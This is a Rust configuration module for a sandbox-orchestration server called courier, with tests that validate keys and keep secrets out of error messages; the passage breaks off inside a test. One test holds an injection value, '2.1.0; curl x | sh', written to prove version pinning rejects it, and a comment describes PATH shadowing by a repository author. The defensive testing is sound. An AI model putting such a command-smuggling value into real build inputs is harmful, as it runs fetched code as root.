//! `courier serve` settings from flags, `COURIER_*` (and the provider's own) environment
//! variables and a TOML file.
//!
//! Precedence, highest first: command-line flag, environment variable, config file,
//! built-in default. The file is `--config PATH` (or `COURIER_CONFIG`), else
//! `courier.toml` in the data directory when it exists. Unknown keys and bad values are
//! errors that name the key and what is allowed; secret values (API keys, the master key,
//! database URLs) never appear in errors or logs.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, bail};
use courier_tools::{Secret, ToolId, registry};

/// Where data lives unless a flag, `COURIER_DATA_DIR` or the config file says otherwise.
pub const DEFAULT_DATA_DIR: &str = "./courier-data";
/// The address `courier serve` listens on by default.
pub const DEFAULT_LISTEN: &str = "127.0.0.1:8080";
/// The default largest request body (1 MiB).
pub const DEFAULT_BODY_LIMIT: usize = 1024 * 1024;
/// The default sandbox creations per user per minute.
pub const DEFAULT_CREATE_RATE: u32 = 10;
/// The config file looked for in the data directory when none is named.
pub const DEFAULT_FILE_NAME: &str = "courier.toml";

/// The keys a config file may set, each with the environment variable that beats it and
/// what it accepts.
pub const KEYS: &[(&str, &str, &str)] = &[
    (
        "data_dir",
        "COURIER_DATA_DIR",
        "a directory path (relative to the file)",
    ),
    (
        "listen",
        "COURIER_LISTEN",
        "HOST:PORT, e.g. \"127.0.0.1:8080\"",
    ),
    (
        "body_limit",
        "COURIER_BODY_LIMIT",
        "a positive integer (bytes)",
    ),
    (
        "create_rate",
        "COURIER_CREATE_RATE",
        "a positive integer (per minute)",
    ),
    (
        "database_url",
        "DATABASE_URL",
        "a postgres:// or postgresql:// URL",
    ),
    ("master_key", "COURIER_MASTER_KEY", "the base64 of 32 bytes"),
    (
        "replica_url",
        "COURIER_REPLICA_URL",
        "an http:// or https:// URL other replicas reach this one at",
    ),
    (
        "envd_binary",
        "COURIER_ENVD_BINARY",
        "a file path (relative to the file)",
    ),
    ("e2b_api_key", "E2B_API_KEY", "an E2B API key"),
    ("e2b_api_url", "E2B_API_URL", "an http:// or https:// URL"),
    (
        "e2b_sandbox_url",
        "E2B_SANDBOX_URL",
        "an http:// or https:// URL",
    ),
    (
        "e2b_domain",
        "E2B_DOMAIN",
        "a domain name, e.g. \"e2b.app\"",
    ),
    (
        "github_webhook_secret",
        "COURIER_GITHUB_WEBHOOK_SECRET",
        "the secret set on the GitHub webhook",
    ),
    (
        "pr_poll_interval",
        "COURIER_PR_POLL_INTERVAL",
        "a whole number of seconds, 0 to turn polling off",
    ),
    (
        "sandbox_internet",
        "COURIER_SANDBOX_INTERNET",
        "true or false",
    ),
    (
        "build_tool_templates",
        "COURIER_BUILD_TOOL_TEMPLATES",
        "true or false",
    ),
    (
        "sandbox_isolation",
        "COURIER_SANDBOX_ISOLATION",
        "\"gvisor\" or \"container\"",
    ),
    (
        "max_sandboxes_per_user",
        "COURIER_MAX_SANDBOXES_PER_USER",
        "a whole number of live sandboxes, 0 for no limit",
    ),
    (
        "max_sandboxes_per_project",
        "COURIER_MAX_SANDBOXES_PER_PROJECT",
        "a whole number of live sandboxes, 0 for no limit",
    ),
    (
        "template_step_timeout",
        "COURIER_TEMPLATE_STEP_TIMEOUT",
        "a positive whole number of seconds",
    ),
    (
        "template_build_timeout",
        "COURIER_TEMPLATE_BUILD_TIMEOUT",
        "a positive whole number of seconds, at most 86400",
    ),
    (
        "gateway",
        "COURIER_GATEWAY",
        "\"auto\" (keys stay outside the embedded backend's sandboxes), \"off\", or the gateway's URL as sandboxes reach it (e.g. https://gw.example.com for E2B cloud)",
    ),
    (
        "gateway_listen",
        "COURIER_GATEWAY_LISTEN",
        "the address the gateway listens on, e.g. \"0.0.0.0:8091\"",
    ),
    (
        "tool_path",
        "COURIER_TOOL_PATH",
        "absolute directories inside the sandboxes, `:`-separated, put first on the agents' PATH (e.g. agent CLIs a provider shares into every sandbox)",
    ),
    (
        "tool_versions",
        "COURIER_TOOL_VERSIONS",
        "a table of CLI versions pinned instead of the registry's, e.g. { claude = \"2.1.332\" } (tools: claude, opencode, codex, pi; versions: npm versions or dist-tags)",
    ),
    (
        "providers",
        "COURIER_PROVIDERS",
        "an array of sandbox providers ([[providers]] with name, api_url, sandbox_url, api_key or api_key_env, domain, capacity, labels; the variable holds it as an inline TOML array)",
    ),
    (
        "provider_template_labels",
        "COURIER_PROVIDER_TEMPLATE_LABELS",
        "a table placing each template's sandboxes by a provider label, e.g. { claude = \"big\" }",
    ),
];

/// Live sandboxes (creating, running, paused) one user may have at once by default.
pub const DEFAULT_MAX_SANDBOXES_PER_USER: u32 = 20;
/// Live sandboxes one project may have at once by default.
pub const DEFAULT_MAX_SANDBOXES_PER_PROJECT: u32 = 20;
/// Deadline of one template build step (embedded courier-sandboxd) by default, seconds.
pub const DEFAULT_TEMPLATE_STEP_TIMEOUT_SECS: u64 =
    courier_sandboxd::limits::DEFAULT_TEMPLATE_STEP_TIMEOUT.as_secs();
/// Deadline of a whole template build by default, seconds.
pub const DEFAULT_TEMPLATE_BUILD_TIMEOUT_SECS: u64 =
    courier_sandboxd::limits::DEFAULT_TEMPLATE_BUILD_TIMEOUT.as_secs();
/// Longest template build deadline accepted (a day, the longest sandbox lifetime).
const MAX_TEMPLATE_BUILD_TIMEOUT_SECS: u64 = 86_400;

/// How often open pull requests are checked for a merge when nothing else is set.
pub const DEFAULT_PR_POLL_INTERVAL_SECS: u64 = 300;

/// Keys whose values are secrets: never echoed.
const SECRET_KEYS: &[&str] = &[
    "database_url",
    "master_key",
    "e2b_api_key",
    "github_webhook_secret",
    "providers",
];

/// What flags (or their `COURIER_*` variables, which clap reads) set.
#[derive(Debug, Default)]
pub struct Overrides {
    pub config: Option<PathBuf>,
    pub data_dir: Option<PathBuf>,
    pub listen: Option<SocketAddr>,
    pub body_limit: Option<usize>,
    pub create_rate: Option<u32>,
}

/// The resolved settings of one `courier` process. No `Debug`: it holds secrets.
pub struct Settings {
    pub data_dir: PathBuf,
    pub listen: SocketAddr,
    pub body_limit: usize,
    pub create_rate: u32,
    /// A PostgreSQL URL, when the store is PostgreSQL.
    pub database_url: Option<String>,
    /// Where the other replicas of a cluster (PostgreSQL store) reach this one's API;
    /// `None`: `http://<listen>` (loopback and wildcard addresses only suit one machine).
    pub replica_url: Option<String>,
    pub master_key: Option<String>,
    pub envd_binary: Option<PathBuf>,
    /// `E2B_*` variables for the provider client: the environment over the file.
    pub e2b_vars: HashMap<String, String>,
    /// The GitHub webhook's secret (`COURIER_GITHUB_WEBHOOK_SECRET` over the file's
    /// `github_webhook_secret`); `None` leaves `POST /v1/github/webhook` off (503). Like
    /// the other secrets it has no flag: command lines are visible to every local user.
    pub github_webhook_secret: Option<Secret>,
    /// Seconds between merged-PR polls; 0 = off (the webhook alone).
    pub pr_poll_interval_secs: u64,
    /// Whether sandboxes get outbound internet; `None` = decide from the provider.
    pub sandbox_internet: Option<bool>,
    /// How the embedded courier-sandboxd isolates sandboxes by default (`None`: gVisor
    /// where runsc works, else container).
    pub sandbox_isolation: Option<courier_sandboxd::runtime::Isolation>,
    /// Whether `serve` with the embedded backend starts builds of the tool templates it
    /// lacks (default `true`).
    pub build_tool_templates: bool,
    /// Live sandboxes one user may have at once; `None` = no limit (set as 0).
    pub max_sandboxes_per_user: Option<u32>,
    /// Live sandboxes one project may have at once; `None` = no limit (set as 0).
    pub max_sandboxes_per_project: Option<u32>,
    /// Deadline of each template build step at the embedded courier-sandboxd, seconds.
    pub template_step_timeout_secs: u64,
    /// Deadline of a whole template build, seconds: the embedded courier-sandboxd's, and
    /// (plus a margin) how long a build is followed before it is recorded failed.
    pub template_build_timeout_secs: u64,
    /// CLI versions the tool templates install instead of the registry's pins
    /// (`tool_versions`, or `COURIER_TOOL_VERSIONS=claude=2.1.332,pi=0.73.1`).
    pub tool_versions: Vec<(ToolId, String)>,
    /// Directories inside the sandboxes put first on the agents' `PATH`
    /// (`tool_path` / `COURIER_TOOL_PATH`, `:`-separated); empty by default.
    pub tool_path: Vec<String>,
    /// Courier's gateway ([16]: keys that never enter the sandbox).
    pub gateway: GatewaySetting,
    /// Where the gateway listens (`None`: this host's outward address, on the API's port
    /// plus one, or any free port when the API's is chosen by the system).
    pub gateway_listen: Option<SocketAddr>,
    /// Several sandbox providers (`providers` / `COURIER_PROVIDERS`); empty: `E2B_*` or
    /// the embedded courier-sandboxd.
    pub providers: Vec<crate::providers::ProviderEntry>,
    /// Templates placed by a provider label (`provider_template_labels`).
    pub provider_template_labels: Vec<(String, String)>,
    /// The file read, and the keys it set (names only).
    pub file: Option<(PathBuf, Vec<String>)>,
}

impl Settings {
    /// Whether remote E2B-compatible endpoints are configured: `E2B_*` (the key or the
    /// API URL) or `providers`.
    pub fn e2b_configured(&self) -> bool {
        !self.providers.is_empty() || e2b_vars_set(&self.e2b_vars)
    }
}

/// Whether provider keys and the GitHub token stay outside the sandboxes, behind
/// Courier's gateway.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GatewaySetting {
    /// On with the embedded courier-sandboxd (its egress adds each run's proof); off with
    /// an E2B endpoint unless a URL is given (the gateway must be reachable from E2B's
    /// sandboxes).
    Auto,
    /// Off: keys are written into the sandbox (the setup of earlier releases).
    Off,
    /// On, reached by sandboxes at this URL.
    Url(String),
}

impl std::str::FromStr for GatewaySetting {
    type Err = String;

    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
        match s.trim() {
            "auto" | "" => Ok(Self::Auto),
            "off" | "false" => Ok(Self::Off),
            url if url.starts_with("http://") || url.starts_with("https://") => {
                Ok(Self::Url(url.trim_end_matches('/').to_owned()))
            }
            other => Err(format!(
                "expected \"auto\", \"off\" or an http(s):// URL, got {other:?}"
            )),
        }
    }
}

/// A parsed config file: every value optional.
#[derive(Default)]
struct FileValues {
    keys: Vec<String>,
    data_dir: Option<PathBuf>,
    listen: Option<SocketAddr>,
    body_limit: Option<usize>,
    create_rate: Option<u32>,
    pr_poll_interval: Option<u64>,
    sandbox_internet: Option<bool>,
    sandbox_isolation: Option<courier_sandboxd::runtime::Isolation>,
    build_tool_templates: Option<bool>,
    max_sandboxes_per_user: Option<u32>,
    max_sandboxes_per_project: Option<u32>,
    template_step_timeout: Option<u64>,
    template_build_timeout: Option<u64>,
    tool_versions: Option<Vec<(ToolId, String)>>,
    providers: Option<toml::Value>,
    provider_template_labels: Option<Vec<(String, Option<String>)>>,
    strings: HashMap<&'static str, String>,
    envd_binary: Option<PathBuf>,
}

/// Whether `E2B_API_KEY` or `E2B_API_URL` is among `vars`.
pub(crate) fn e2b_vars_set(vars: &HashMap<String, String>) -> bool {
    ["E2B_API_KEY", "E2B_API_URL"]
        .iter()
        .any(|k| vars.contains_key(*k))
}

fn env(name: &str) -> Option<String> {
    std::env::var(name).ok().filter(|v| !v.is_empty())
}

/// Resolves the settings: flags and `COURIER_*` variables in `over`, then the other
/// environment variables, then the config file, then the defaults.
pub fn resolve(over: Overrides) -> Result<Settings> {
    let lookup_dir = over
        .data_dir
        .clone()
        .unwrap_or_else(|| PathBuf::from(DEFAULT_DATA_DIR));
    let path = match &over.config {
        Some(path) => {
            if !path.is_file() {
                bail!("config file {} does not exist", path.display());
            }
            Some(path.clone())
        }
        None => Some(lookup_dir.join(DEFAULT_FILE_NAME)).filter(|p| p.is_file()),
    };
    let file = match &path {
        Some(path) => {
            let text = std::fs::read_to_string(path)
                .with_context(|| format!("reading config file {}", path.display()))?;
            parse(&text, path)?
        }
        None => FileValues::default(),
    };
    let string = |key: &'static str, var: &str| env(var).or_else(|| file.strings.get(key).cloned());
    let database_url = match env("DATABASE_URL") {
        // Only a PostgreSQL URL switches the store (SQLite in the data dir otherwise).
        Some(url) => Some(url).filter(|u| is_postgres(u)),
        None => file.strings.get("database_url").cloned(),
    };
    let mut e2b_vars: HashMap<String, String> = std::env::vars()
        .filter(|(k, v)| k.starts_with("E2B_") && !v.is_empty())
        .collect();
    for (key, var) in [
        ("e2b_api_key", "E2B_API_KEY"),
        ("e2b_api_url", "E2B_API_URL"),
        ("e2b_sandbox_url", "E2B_SANDBOX_URL"),
        ("e2b_domain", "E2B_DOMAIN"),
    ] {
        if let Some(value) = file.strings.get(key) {
            e2b_vars
                .entry(var.to_owned())
                .or_insert_with(|| value.clone());
        }
    }
    let (providers, provider_template_labels) = crate::providers::resolve(
        env("COURIER_PROVIDERS"),
        file.providers.as_ref().zip(path.as_deref()),
        env("COURIER_PROVIDER_TEMPLATE_LABELS"),
        file.provider_template_labels.clone(),
        e2b_vars_set(&e2b_vars),
    )?;
    Ok(Settings {
        data_dir: over
            .data_dir
            .or(file.data_dir.clone())
            .unwrap_or_else(|| PathBuf::from(DEFAULT_DATA_DIR)),
        listen: match over.listen.or(file.listen) {
            Some(listen) => listen,
            None => DEFAULT_LISTEN.parse()?,
        },
        body_limit: over
            .body_limit
            .or(file.body_limit)
            .unwrap_or(DEFAULT_BODY_LIMIT),
        create_rate: over
            .create_rate
            .or(file.create_rate)
            .unwrap_or(DEFAULT_CREATE_RATE),
        database_url,
        replica_url: string("replica_url", "COURIER_REPLICA_URL"),
        master_key: string("master_key", "COURIER_MASTER_KEY"),
        envd_binary: env("COURIER_ENVD_BINARY")
            .map(PathBuf::from)
            .or(file.envd_binary.clone()),
        e2b_vars,
        github_webhook_secret: string("github_webhook_secret", "COURIER_GITHUB_WEBHOOK_SECRET")
            .map(Secret::new),
        pr_poll_interval_secs: match env("COURIER_PR_POLL_INTERVAL") {
            Some(v) => v.trim().parse().map_err(|_| {
                anyhow::anyhow!(
                    "bad value for COURIER_PR_POLL_INTERVAL: expected a whole number of seconds, 0 to turn polling off, got {v:?}"
                )
            })?,
            None => file
                .pr_poll_interval
                .unwrap_or(DEFAULT_PR_POLL_INTERVAL_SECS),
        },
        tool_path: match string("tool_path", "COURIER_TOOL_PATH") {
            Some(v) => parse_tool_path(&v)
                .map_err(|e| anyhow::anyhow!("bad value for COURIER_TOOL_PATH (or `tool_path`): {e}"))?,
            None => Vec::new(),
        },
        gateway: match string("gateway", "COURIER_GATEWAY") {
            Some(v) => v
                .parse()
                .map_err(|e| anyhow::anyhow!("bad value for COURIER_GATEWAY (or `gateway`): {e}"))?,
            None => GatewaySetting::Auto,
        },
        gateway_listen: match string("gateway_listen", "COURIER_GATEWAY_LISTEN") {
            Some(v) => Some(v.trim().parse().map_err(|_| {
                anyhow::anyhow!(
                    "bad value for COURIER_GATEWAY_LISTEN (or `gateway_listen`): expected an address such as 0.0.0.0:8091, got {v:?}"
                )
            })?),
            None => None,
        },
        sandbox_internet: match env("COURIER_SANDBOX_INTERNET") {
            Some(v) => Some(parse_bool(&v).ok_or_else(|| {
                anyhow::anyhow!(
                    "bad value for COURIER_SANDBOX_INTERNET: expected true or false, got {v:?}"
                )
            })?),
            None => file.sandbox_internet,
        },
        sandbox_isolation: match env("COURIER_SANDBOX_ISOLATION") {
            Some(v) => Some(v.parse().map_err(|_| {
                anyhow::anyhow!(
                    "bad value for COURIER_SANDBOX_ISOLATION: expected \"gvisor\" or \"container\", got {v:?}"
                )
            })?),
            None => file.sandbox_isolation,
        },
        build_tool_templates: match env("COURIER_BUILD_TOOL_TEMPLATES") {
            Some(v) => parse_bool(&v).ok_or_else(|| {
                anyhow::anyhow!(
                    "bad value for COURIER_BUILD_TOOL_TEMPLATES: expected true or false, got {v:?}"
                )
            })?,
            None => file.build_tool_templates.unwrap_or(true),
        },
        max_sandboxes_per_user: quota(
            env_number("COURIER_MAX_SANDBOXES_PER_USER", "max_sandboxes_per_user", 0, u32::MAX.into())?
                .map(|n| n as u32)
                .or(file.max_sandboxes_per_user)
                .unwrap_or(DEFAULT_MAX_SANDBOXES_PER_USER),
        ),
        max_sandboxes_per_project: quota(
            env_number("COURIER_MAX_SANDBOXES_PER_PROJECT", "max_sandboxes_per_project", 0, u32::MAX.into())?
                .map(|n| n as u32)
                .or(file.max_sandboxes_per_project)
                .unwrap_or(DEFAULT_MAX_SANDBOXES_PER_PROJECT),
        ),
        template_step_timeout_secs: env_number(
            "COURIER_TEMPLATE_STEP_TIMEOUT",
            "template_step_timeout",
            1,
            u64::MAX,
        )?
        .or(file.template_step_timeout)
        .unwrap_or(DEFAULT_TEMPLATE_STEP_TIMEOUT_SECS),
        template_build_timeout_secs: env_number(
            "COURIER_TEMPLATE_BUILD_TIMEOUT",
            "template_build_timeout",
            1,
            MAX_TEMPLATE_BUILD_TIMEOUT_SECS,
        )?
        .or(file.template_build_timeout)
        .unwrap_or(DEFAULT_TEMPLATE_BUILD_TIMEOUT_SECS),
        tool_versions: match env("COURIER_TOOL_VERSIONS") {
            Some(v) => parse_tool_versions(v.split(',').filter(|p| !p.trim().is_empty()).map(|pair| {
                let (tool, version) = pair.split_once('=').unwrap_or((pair, ""));
                (tool.trim().to_owned(), Some(version.trim().to_owned()))
            }))
            .map_err(|e| anyhow::anyhow!("bad value for COURIER_TOOL_VERSIONS: {e:#}"))?,
            None => file.tool_versions.unwrap_or_default(),
        },
        providers,
        provider_template_labels,
        file: path.map(|p| (p, file.keys)),
    })
}

/// A quota setting: 0 means no limit.
fn quota(n: u32) -> Option<u32> {
    (n > 0).then_some(n)
}

/// A whole number from environment variable `var` (for config key `key`) in
/// `min..=max`; `None` when unset. A bad value names the variable and what it accepts.
fn env_number(var: &str, key: &str, min: u64, max: u64) -> Result<Option<u64>> {
    let Some(text) = env(var) else {
        return Ok(None);
    };
    let expected = KEYS
        .iter()
        .find(|(k, _, _)| *k == key)
        .map_or("a whole number", |(_, _, e)| *e);
    text.trim()
        .parse::<u64>()
        .ok()
        .filter(|n| (min..=max).contains(n))
        .map(Some)
        .ok_or_else(|| anyhow::anyhow!("bad value for {var}: expected {expected}, got {text:?}"))
}

/// Checks `tool = version` pairs: a tool with an npm package, an npm version or dist-tag.
fn parse_tool_versions(
    pairs: impl Iterator<Item = (String, Option<String>)>,
) -> anyhow::Result<Vec<(ToolId, String)>> {
    let mut out = Vec::new();
    for (tool, version) in pairs {
        let id: ToolId = tool.parse()?;
        if registry::spec(id).package.is_none() {
            anyhow::bail!("{id} has no CLI to pin (tools with one: claude, opencode, codex, pi)");
        }
        let version = version.unwrap_or_default();
        registry::validate_cli_version(&version).map_err(|e| anyhow::anyhow!("{id}: {e}"))?;
        out.push((id, version));
    }
    Ok(out)
}

/// `tool_path`: `:`-separated absolute directories (inside the sandboxes) without `:`
/// tricks — each one is spliced into the agents' `PATH`.
fn parse_tool_path(text: &str) -> anyhow::Result<Vec<String>> {
    text.split(':')
        .filter(|d| !d.trim().is_empty())
        .map(|dir| {
            let dir = dir.trim();
            if !dir.starts_with('/') || dir.split('/').any(|part| part == "..") {
                anyhow::bail!("expected absolute directories without `..`, got {dir:?}");
            }
            Ok(dir.to_owned())
        })
        .collect()
}

fn parse_bool(text: &str) -> Option<bool> {
    match text.trim().to_ascii_lowercase().as_str() {
        "true" | "1" | "yes" | "on" => Some(true),
        "false" | "0" | "no" | "off" => Some(false),
        _ => None,
    }
}

fn is_postgres(url: &str) -> bool {
    url.starts_with("postgres://") || url.starts_with("postgresql://")
}

fn allowed() -> String {
    KEYS.iter()
        .map(|(k, _, _)| *k)
        .collect::<Vec<_>>()
        .join(", ")
}

fn parse(text: &str, path: &Path) -> Result<FileValues> {
    let table: toml::Table = text
        .parse()
        .map_err(|e| anyhow::anyhow!("config file {} is not valid TOML: {e}", path.display()))?;
    let base = path.parent().unwrap_or(Path::new("."));
    let mut out = FileValues::default();
    for (key, value) in &table {
        let Some(&(name, _, expected)) = KEYS.iter().find(|(k, _, _)| *k == key.as_str()) else {
            bail!(
                "unknown key `{key}` in config file {}; allowed keys: {}",
                path.display(),
                allowed()
            );
        };
        let bad = || {
            let shown = if SECRET_KEYS.contains(&name) {
                String::new()
            } else {
                let shown = match value {
                    toml::Value::String(s) => format!("{s:?}"),
                    toml::Value::Integer(i) => i.to_string(),
                    toml::Value::Float(f) => f.to_string(),
                    toml::Value::Boolean(b) => b.to_string(),
                    other => format!("a {}", other.type_str()),
                };
                format!(", got {shown}")
            };
            anyhow::anyhow!(
                "bad value for `{name}` in config file {}: expected {expected}{shown}",
                path.display()
            )
        };
        let text = || {
            value
                .as_str()
                .filter(|s| !s.trim().is_empty())
                .ok_or_else(bad)
        };
        let positive = || value.as_integer().filter(|n| *n > 0).ok_or_else(bad);
        match name {
            "data_dir" => out.data_dir = Some(base.join(text()?)),
            "envd_binary" => out.envd_binary = Some(base.join(text()?)),
            "listen" => out.listen = Some(text()?.parse().map_err(|_| bad())?),
            "body_limit" => out.body_limit = Some(usize::try_from(positive()?).map_err(|_| bad())?),
            "create_rate" => out.create_rate = Some(u32::try_from(positive()?).map_err(|_| bad())?),
            "pr_poll_interval" => {
                let secs = value.as_integer().filter(|n| *n >= 0).ok_or_else(bad)?;
                out.pr_poll_interval = Some(u64::try_from(secs).map_err(|_| bad())?);
            }
            "sandbox_internet" => out.sandbox_internet = Some(value.as_bool().ok_or_else(bad)?),
            "sandbox_isolation" => {
                out.sandbox_isolation = Some(text()?.parse().map_err(|_| bad())?)
            }
            "build_tool_templates" => {
                out.build_tool_templates = Some(value.as_bool().ok_or_else(bad)?)
            }
            "max_sandboxes_per_user" | "max_sandboxes_per_project" => {
                let n = value.as_integer().filter(|n| *n >= 0).ok_or_else(bad)?;
                let n = u32::try_from(n).map_err(|_| bad())?;
                if name == "max_sandboxes_per_user" {
                    out.max_sandboxes_per_user = Some(n);
                } else {
                    out.max_sandboxes_per_project = Some(n);
                }
            }
            "template_step_timeout" => {
                out.template_step_timeout = Some(u64::try_from(positive()?).map_err(|_| bad())?);
            }
            "template_build_timeout" => {
                let secs = u64::try_from(positive()?).map_err(|_| bad())?;
                if secs > MAX_TEMPLATE_BUILD_TIMEOUT_SECS {
                    return Err(bad());
                }
                out.template_build_timeout = Some(secs);
            }
            "tool_versions" => {
                let table = value.as_table().ok_or_else(bad)?;
                let pairs = table
                    .iter()
                    .map(|(k, v)| (k.clone(), v.as_str().map(str::to_owned)));
                out.tool_versions = Some(parse_tool_versions(pairs).map_err(|e| {
                    anyhow::anyhow!(
                        "bad value for `tool_versions` in config file {}: {e:#}",
                        path.display()
                    )
                })?);
            }
            // Checked whole at resolve (its keys may come from the environment).
            "providers" => out.providers = Some(value.clone()),
            "provider_template_labels" => {
                let table = value.as_table().ok_or_else(bad)?;
                out.provider_template_labels = Some(
                    table
                        .iter()
                        .map(|(k, v)| (k.clone(), v.as_str().map(str::to_owned)))
                        .collect(),
                );
            }
            "database_url" => {
                let url = text()?;
                if !is_postgres(url) {
                    return Err(bad());
                }
                out.strings.insert(name, url.to_owned());
            }
            "e2b_api_url" | "e2b_sandbox_url" | "replica_url" => {
                let url = text()?;
                if !(url.starts_with("http://") || url.starts_with("https://")) {
                    return Err(bad());
                }
                out.strings.insert(name, url.to_owned());
            }
            _ => {
                out.strings.insert(name, text()?.to_owned());
            }
        }
        out.keys.push(name.to_owned());
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse_str(text: &str) -> Result<FileValues> {
        parse(text, Path::new("/etc/courier/courier.toml"))
    }

    fn parse_err(text: &str) -> String {
        match parse_str(text) {
            Ok(_) => panic!("{text:?} was accepted"),
            Err(e) => e.to_string(),
        }
    }

    #[test]
    fn parses_every_key() {
        let v = parse_str(
            r#"
data_dir = "data"
listen = "0.0.0.0:9000"
body_limit = 2048
create_rate = 3
database_url = "postgres://u:p@h/db"
master_key = "AAAA"
envd_binary = "/opt/courier-envd"
e2b_api_key = "e2b_secret"
e2b_api_url = "https://api.example"
e2b_sandbox_url = "http://127.0.0.1:3000"
e2b_domain = "example.com"
github_webhook_secret = "whsec-from-file"
pr_poll_interval = 0
sandbox_internet = false
sandbox_isolation = "container"
build_tool_templates = false
max_sandboxes_per_user = 5
max_sandboxes_per_project = 0
template_step_timeout = 600
template_build_timeout = 1200
tool_versions = { claude = "2.1.332", pi = "latest" }
gateway = "https://gw.example.com/"
gateway_listen = "0.0.0.0:8091"
providers = [{ name = "h1", api_url = "http://10.0.0.5:3000", api_key = "e2b_k", labels = ["big"] }]
provider_template_labels = { claude = "big" }
tool_path = "/opt/courier-fake-clis"
replica_url = "http://10.0.0.11:8080"
"#,
        )
        .unwrap();
        assert_eq!(v.data_dir.unwrap(), Path::new("/etc/courier/data"));
        assert_eq!(v.listen.unwrap().port(), 9000);
        assert_eq!(v.body_limit, Some(2048));
        assert_eq!(v.create_rate, Some(3));
        assert_eq!(v.envd_binary.unwrap(), Path::new("/opt/courier-envd"));
        assert_eq!(v.strings["e2b_api_key"], "e2b_secret");
        assert_eq!(v.strings["github_webhook_secret"], "whsec-from-file");
        assert_eq!(v.pr_poll_interval, Some(0));
        assert_eq!(v.sandbox_internet, Some(false));
        assert_eq!(
            v.sandbox_isolation,
            Some(courier_sandboxd::runtime::Isolation::Container)
        );
        assert_eq!(v.build_tool_templates, Some(false));
        assert_eq!(v.max_sandboxes_per_user, Some(5));
        assert_eq!(v.max_sandboxes_per_project, Some(0));
        assert_eq!(v.template_step_timeout, Some(600));
        assert_eq!(v.template_build_timeout, Some(1200));
        assert_eq!(
            v.tool_versions.unwrap(),
            [
                (ToolId::Claude, "2.1.332".to_owned()),
                (ToolId::Pi, "latest".to_owned())
            ]
        );
        assert_eq!(v.strings["gateway"], "https://gw.example.com/");
        assert_eq!(v.strings["gateway_listen"], "0.0.0.0:8091");
        assert!(v.providers.is_some());
        assert_eq!(v.strings["replica_url"], "http://10.0.0.11:8080");
        assert_eq!(
            v.provider_template_labels.unwrap(),
            [("claude".to_owned(), Some("big".to_owned()))]
        );
        assert_eq!(v.keys.len(), KEYS.len());
    }

    /// The directories go first on the agents' `PATH` inside the sandbox. A relative one
    /// would resolve against the agent's working directory, the cloned repository: its
    /// author (attacker 1, through the repository's files) could shadow every command
    /// the agent runs. So only absolute directories without `..` are accepted.
    #[test]
    fn the_tool_path_is_absolute_directories() {
        assert_eq!(
            parse_tool_path("/opt/a: /opt/b::").unwrap(),
            ["/opt/a", "/opt/b"]
        );
        assert!(parse_tool_path("").unwrap().is_empty());
        for bad in ["opt/a", "/opt/a:bin", "/opt/../etc"] {
            let e = parse_tool_path(bad).unwrap_err().to_string();
            assert!(e.contains("absolute directories"), "{bad}: {e}");
        }
    }

    #[test]
    fn the_gateway_setting_is_auto_off_or_a_url() {
        assert_eq!("auto".parse(), Ok(GatewaySetting::Auto));
        assert_eq!("off".parse(), Ok(GatewaySetting::Off));
        assert_eq!(
            "https://gw.example.com/".parse(),
            Ok(GatewaySetting::Url("https://gw.example.com".into()))
        );
        let e = "on".parse::<GatewaySetting>().unwrap_err();
        assert!(e.contains("\"auto\", \"off\" or an http(s):// URL"), "{e}");
    }

    #[test]
    fn a_pinned_version_must_be_a_version_of_a_tool_with_a_cli() {
        // The version is spliced into a root `npm install` in the build sandbox.
        let e = parse_err("tool_versions = { claude = \"2.1.0; curl x | sh\" }");
        assert!(
            e.contains("`tool_versions`") && e.contains("cli_version"),
            "{e}"
        );
        let e = parse_err("tool_versions = { shell = \"1.0.0\" }");
        assert!(e.contains("shell has no CLI to pin"), "{e}");
        let e = parse_err("tool_versions = { gemini = \"1.0.0\" }");
        assert!(e.contains("allowed values are claude"), "{e}");
        let e = parse_err("tool_versions = { pi = 3 }");
        assert!(e.contains("cli_version"), "{e}");
    }

    #[test]
    fn unknown_keys_and_bad_values_are_named() {
        let e = parse_err("lisen = \"x\"");
        assert!(e.contains("unknown key `lisen`"), "{e}");
        assert!(
            e.contains("allowed keys: data_dir, listen, body_limit"),
            "{e}"
        );
        let e = parse_err("listen = \"nowhere\"");
        assert!(e.contains("`listen`") && e.contains("HOST:PORT"), "{e}");
        assert!(e.contains("nowhere"), "{e}");
        let e = parse_err("body_limit = -1");
        assert!(
            e.contains("`body_limit`") && e.contains("positive integer"),
            "{e}"
        );
        let e = parse_err("create_rate = \"ten\"");
        assert!(e.contains("`create_rate`"), "{e}");
        let e = parse_err("pr_poll_interval = -5");
        assert!(
            e.contains("`pr_poll_interval`") && e.contains("0 to turn polling off"),
            "{e}"
        );
        let e = parse_err("sandbox_isolation = \"vm\"");
        assert!(
            e.contains("`sandbox_isolation`") && e.contains("gvisor"),
            "{e}"
        );
        let e = parse_err("sandbox_internet = \"maybe\"");
        assert!(
            e.contains("`sandbox_internet`") && e.contains("true or false"),
            "{e}"
        );
        assert_eq!(parse_bool("Off"), Some(false));
        assert_eq!(parse_bool("1"), Some(true));
        assert_eq!(parse_bool("perhaps"), None);
        let e = parse_err("max_sandboxes_per_user = -1");
        assert!(
            e.contains("`max_sandboxes_per_user`") && e.contains("0 for no limit"),
            "{e}"
        );
        let e = parse_err("template_build_timeout = 100000");
        assert!(
            e.contains("`template_build_timeout`") && e.contains("at most 86400"),
            "{e}"
        );
        let e = parse_err("template_step_timeout = 0");
        assert!(e.contains("`template_step_timeout`"), "{e}");
        assert_eq!(quota(0), None);
        assert_eq!(quota(7), Some(7));
        let e = parse_err("[e2b]\napi_key = 1");
        assert!(e.contains("unknown key `e2b`"), "{e}");
        let e = parse_err("not toml =");
        assert!(e.contains("not valid TOML"), "{e}");
        // Other replicas forward requests there: only an HTTP(S) URL will do.
        let e = parse_err("replica_url = \"10.0.0.11:8080\"");
        assert!(e.contains("`replica_url`") && e.contains("http://"), "{e}");
    }

    #[test]
    fn secrets_are_not_echoed_in_errors() {
        let e = parse_err("database_url = \"mysql://user:hunter2@db\"");
        assert!(
            e.contains("`database_url`") && !e.contains("hunter2"),
            "{e}"
        );
        let e = parse_err("e2b_api_key = 12345678");
        assert!(
            e.contains("`e2b_api_key`") && !e.contains("12345678"),
            "{e}"
        );
        let e = parse_err("github_webhook_secret = 87654321");
        assert!(
            e.contains("`github_webhook_secret`") && !e.contains("87654321"),
